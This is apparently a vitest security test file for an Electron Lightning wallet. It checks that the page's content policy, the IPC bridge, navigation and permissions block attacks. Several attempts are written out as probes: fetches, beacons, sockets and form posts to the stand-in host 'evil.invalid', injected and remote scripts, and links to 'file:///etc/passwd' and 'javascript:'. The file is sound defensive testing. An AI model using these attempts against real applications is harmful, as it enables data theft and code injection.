import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ask, createWallet, handsOn, PASSWORD } from '../../build/desktop/hands.ts';
import type { RunningApp } from '../../build/electron-stand-in/launch.ts';
import { WINDOW_METHODS } from '../../core/api.ts';
import { complaints, onStandIn, openStage, type Stage } from './support.ts';

interface Fact {
  readonly name: string;
  readonly directive: string;
}

describe('what the page can and cannot do', () => {
  let stage: Stage;
  let app: RunningApp;
  let words: readonly string[];
  beforeAll(async () => {
    stage = await openStage();
    app = await stage.open({ userData: stage.folder() });
    words = await createWallet(handsOn(app.page));
  });
  afterAll(() => stage.end());

  /** Runs code in a timer of the page, where the page's policy counts, and says which directive was broken. */
  const violation = (code: string): Promise<Fact> =>
    app.page.evaluate(
      (source) =>
        new Promise<Fact>((done) => {
          const listener = (event: SecurityPolicyViolationEvent): void => done({ name: 'blocked', directive: event.effectiveDirective });
          document.addEventListener('securitypolicyviolation', listener, { once: true });
          const attempts: Readonly<Record<string, () => unknown>> = {
            // oxlint-disable-next-line no-eval -- what the policy must stop
            eval: () => (0, eval)('1'),
            script: () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.evil = 1' })),
            remoteScript: () => document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.invalid/x.js' })),
            fetch: () => fetch('https://evil.invalid/'),
            ownFetch: () => fetch('/index.html'),
            socket: () => new WebSocket('wss://evil.invalid'),
            beacon: () => navigator.sendBeacon('https://evil.invalid/', 'x'),
            image: () => Object.assign(new Image(), { src: 'https://evil.invalid/x.png' }),
            frame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.invalid/' })),
            ownFrame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/index.html' })),
            style: () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'body{color:red}' })),
            html: () => (document.createElement('div').innerHTML = '<b>x</b>'),
            object: () => document.body.append(Object.assign(document.createElement('object'), { data: 'https://evil.invalid/x' })),
            base: () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.invalid/' })),
            form: () => {
              const form = Object.assign(document.createElement('form'), { action: 'https://evil.invalid/', method: 'post' });
              document.body.append(form);
              form.submit();
            },
            worker: () => new Worker('https://evil.invalid/w.js'),
          };
          setTimeout(() => {
            try {
              void Promise.resolve(attempts[source]?.()).catch(() => undefined);
            } catch {
              // The event tells which directive it was.
            }
            setTimeout(() => done({ name: 'nothing was blocked', directive: '' }), 2000);
          });
        }),
      code,
    );

  test.each([
    ['eval', 'require-trusted-types-for'], ['script', 'require-trusted-types-for'], ['remoteScript', 'require-trusted-types-for'], ['fetch', 'connect-src'], ['ownFetch', 'connect-src'], ['socket', 'connect-src'], ['beacon', 'connect-src'],
    ['image', 'img-src'], ['frame', 'frame-src'], ['ownFrame', 'frame-src'], ['style', 'style-src-elem'], ['html', 'require-trusted-types-for'], ['object', 'require-trusted-types-for'], ['base', 'base-uri'], ['form', 'form-action'], ['worker', 'require-trusted-types-for'],
  ])('%s is stopped by %s', async (code, directive) => expect(await violation(code)).toEqual({ name: 'blocked', directive })); // prettier-ignore

  test('the bridge is two frozen functions, and nothing of Node or Electron is there', async () => {
    const found = await app.page.evaluate(() => {
      const page = globalThis as unknown as Record<string, object>;
      Reflect.set(page, 'sferic', 1);
      return {
        keys: Object.keys(page['sferic'] ?? {}),
        isFrozen: Object.isFrozen(page['sferic']),
        strange: ['require', 'process', 'module', 'global', 'Buffer', 'ipcRenderer', 'electron', 'standInTell', 'standInDeliver'].filter((name) => page[name] !== undefined),
        isSecure: isSecureContext,
      };
    });
    expect(found).toEqual({ keys: ['request', 'subscribe'], isFrozen: true, strange: [], isSecure: true });
  });

  test('no address but our own is ever shown, whatever the page tries', async () => {
    const { page } = app;
    const before = page.url();
    await page.evaluate(() => {
      window.open('https://evil.invalid/');
      const link = Object.assign(document.createElement('a'), { href: 'https://evil.invalid/', target: '_blank', textContent: 'x' });
      document.body.append(link);
      link.click();
      location.href = 'https://evil.invalid/';
    });
    await page.evaluate(() => new Promise((done) => setTimeout(done, 300)));
    expect(page.url()).toBe(before);
    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
    if (app.kind === 'stand-in') expect(await app.evaluate(({ _log }) => _log.external)).toEqual([]);
  });

  test('a page that refreshes itself elsewhere, a file dropped on it, and a form in a new window change nothing', async () => {
    const { page } = app;
    const before = page.url();
    await page.evaluate(() => {
      document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0; url=https://evil.invalid/' }));
      const data = new DataTransfer();
      data.items.add(new File(['<script>1</script>'], 'evil.html', { type: 'text/html' }));
      data.setData('text/uri-list', 'file:///etc/passwd');
      for (const type of ['dragenter', 'dragover', 'drop']) document.body.dispatchEvent(new DragEvent(type, { dataTransfer: data, bubbles: true, cancelable: true }));
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.invalid/', target: '_blank' });
      document.body.append(form);
      form.submit();
    });
    await page.evaluate(() => new Promise((done) => setTimeout(done, 300)));
    expect(page.url()).toBe(before);
    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
  });

  test('everything that is served carries the policy', async () => {
    const resources = await app.page.evaluate(() => [location.href, ...performance.getEntriesByType('resource').map(({ name }) => name)]);
    expect(resources.length).toBeGreaterThan(2);
    const seen = new Map<string, string | undefined>();
    app.page.on('response', (response) => void seen.set(response.url(), response.headers()['content-security-policy']));
    // The page itself may not even reload; the main process does it as after a crash.
    const loaded = app.page.waitForEvent('load');
    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.reload());
    await loaded;
    await handsOn(app.page).sees('You can pay over Lightning');
    expect([...seen.values()].filter((policy) => !policy?.startsWith("default-src 'none'; script-src 'self'; "))).toEqual([]);
    expect(seen.size).toBeGreaterThan(1);
  });

  onStandIn('no channel answers another window, a sub-frame or a frame that is gone', async () => {
    const codes = await app.evaluate(async ({ ipcMain, BrowserWindow }) => {
      const { webContents } = BrowserWindow.getAllWindows()[0]!;
      const own = webContents.mainFrame;
      const events = [
        { sender: { id: webContents.id + 1, isDestroyed: () => false }, senderFrame: own }, { sender: webContents, senderFrame: { url: own.url, parent: own } }, { sender: webContents, senderFrame: null },
        { sender: webContents, senderFrame: { url: 'https://wallet.invalid/', parent: null } }, { sender: { id: webContents.id, isDestroyed: () => true }, senderFrame: own },
      ]; // prettier-ignore
      const answers: string[] = [];
      for (const [channel, handler] of ipcMain.handlers) {
        for (const [at, event] of events.entries()) {
          const answer = (await handler(event, {})) as { readonly ok: boolean; readonly error?: { readonly message: string } };
          if (answer.ok || answer.error?.message !== 'Only the window of the wallet may ask.') answers.push(`${channel} ${at}`);
        }
      }
      return { channels: ipcMain.handlers.size, answers };
    });
    expect(codes).toEqual({ channels: WINDOW_METHODS.length, answers: [] });
  });

  test('a password field that is taken away takes its text along, even if somebody keeps the field', async () => {
    const { go, fill, page } = handsOn(app.page);
    await go('Backup');
    await fill('Password', PASSWORD);
    const field = await page.getByLabel('Password', { exact: true }).elementHandle();
    await go('Home');
    await page.locator('main h1').waitFor();
    expect(await field?.evaluate((element) => [element.isConnected, (element as HTMLInputElement).value, element.getAttribute('value') ?? ''])).toEqual([false, '', '']);
    await field?.dispose();
  });

  /** Every text that the page's process holds, after what can go has gone. */
  async function textsInMemory(): Promise<readonly string[]> {
    const cdp = await app.page.context().newCDPSession(app.page);
    const parts: string[] = [];
    cdp.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => void parts.push(chunk));
    await cdp.send('HeapProfiler.enable');
    await cdp.send('HeapProfiler.collectGarbage');
    await cdp.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false });
    await cdp.detach();
    return (JSON.parse(parts.join('')) as { readonly strings: readonly string[] }).strings;
  }

  test('after the words were shown and put away, neither they nor the password are in the memory of the page', async () => {
    const { go, fill, press, page } = handsOn(app.page);
    await go('Backup');
    await fill('Password', PASSWORD);
    await press('Show the words');
    await page.locator('ol.seed').waitFor();
    const shown = await textsInMemory();
    const phrase = words.join(' ');
    expect(shown.some((text) => text.includes(phrase) || text === words[0])).toBe(true);
    await press('Done');
    await go('Home');
    const pairs = words.slice(1).map((word, at) => `${words[at]} ${word}`);
    let left: readonly string[] = [];
    const secrets = async (): Promise<readonly string[]> => {
      left = await textsInMemory();
      return left.filter((text) => text.includes(PASSWORD) || pairs.some((pair) => text.includes(pair)));
    };
    // Chromium lets go of elements that were taken away when it has nothing else to do.
    await expect.poll(secrets, { timeout: 30_000, interval: 500 }).toEqual([]);
    // A few of them may be names that the browser itself uses, such as "escape"; a leak would be all twelve.
    expect(words.filter((word) => left.includes(word)).length).toBeLessThan(7);
    expect(await page.content()).not.toContain(`>${words[0]}<`);
  });

  onStandIn('every permission that a page can ask for is denied', async () => {
    const granted = await app.evaluate(({ session, BrowserWindow }) => {
      const answers: boolean[] = [];
      const details = { isMainFrame: true, requestingUrl: 'app://wallet/index.html', securityOrigin: 'app://wallet/', mediaTypes: ['video'], mediaType: 'video' };
      const contents = BrowserWindow.getAllWindows()[0]?.webContents;
      for (const permission of ['media', 'clipboard-read', 'geolocation', 'notifications', 'openExternal']) session.defaultSession.permissionRequest?.(contents, permission, (isGranted) => answers.push(isGranted), details);
      return [...answers, session.defaultSession.permissionCheck?.(contents, 'media', 'app://wallet/', details)];
    });
    expect(granted).toEqual(Array(6).fill(false));
  });

  onStandIn('the window was made with the exact preferences', async () => {
    const { preload, ...preferences } = (await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.options.webPreferences)) ?? {};
    expect(preload).toMatch(/preload\.cjs$/u);
    expect(preferences).toEqual({
      sandbox: true, contextIsolation: true, nodeIntegration: false, nodeIntegrationInWorker: false, nodeIntegrationInSubFrames: false, webSecurity: true, allowRunningInsecureContent: false,
      experimentalFeatures: false, webviewTag: false, navigateOnDragDrop: false, spellcheck: false, safeDialogs: true, devTools: false,
    }); // prettier-ignore
  });

  test('each channel refuses what does not fit its schema, over the real bridge', async () => {
    for (const method of WINDOW_METHODS) {
      for (const params of ['text', 7, [], { nobodyKnowsThis: 1 }, { password: 'x'.repeat(300_000) }]) {
        expect(await ask(app.page, method, params), method).toMatchObject({ ok: false, error: { code: 'bad_request' } });
      }
    }
    await expect(ask(app.page, 'node.stop')).rejects.toThrow(/No handler registered/u);
    await expect(ask(app.page, '../shell.state')).rejects.toThrow(/No handler registered/u);
  });

  test('the words come out only for the password, and a wrong one is told without a hint', async () => {
    expect(await ask(app.page, 'vault.revealSeed', { password: `${PASSWORD} ` })).toMatchObject({ ok: false, error: { code: 'wrong_password' } });
  });

  test('only links of the list are opened', async () => {
    for (const url of ['file:///etc/passwd', 'https://mempool.space@evil.invalid/', 'javascript:alert(1)']) expect(await ask(app.page, 'shell.openLink', { url })).toMatchObject({ ok: false });
    if (app.kind !== 'stand-in') return;
    expect(await ask(app.page, 'shell.openLink', { url: 'https://mempool.space/tx/ab' })).toMatchObject({ ok: true });
    expect(await app.evaluate(({ _log }) => _log.external)).toEqual(['https://mempool.space/tx/ab']);
  });

  test('the main process listens nowhere', () => {
    if (process.platform !== 'linux') return;
    const sockets = execFileSync('ls', ['-l', `/proc/${app.pid}/fd`], { encoding: 'utf8' });
    const inodes = new Set([...sockets.matchAll(/socket:\[(\d+)\]/gu)].map(([, inode]) => inode));
    const tables = execFileSync('cat', [`/proc/${app.pid}/net/tcp`, `/proc/${app.pid}/net/tcp6`], { encoding: 'utf8' });
    const LISTEN = '0A';
    const own = tables.split('\n').map((line) => line.trim().split(/\s+/u)).filter((cells) => cells[3] === LISTEN && inodes.has(cells[9])); // prettier-ignore
    expect(own).toEqual([]);
  });

  test('everything that was blocked stayed inside', async () => {
    expect((await complaints(app)).filter((text) => text.startsWith('https://') && !text.includes('evil.invalid'))).toEqual([]);
  });
});
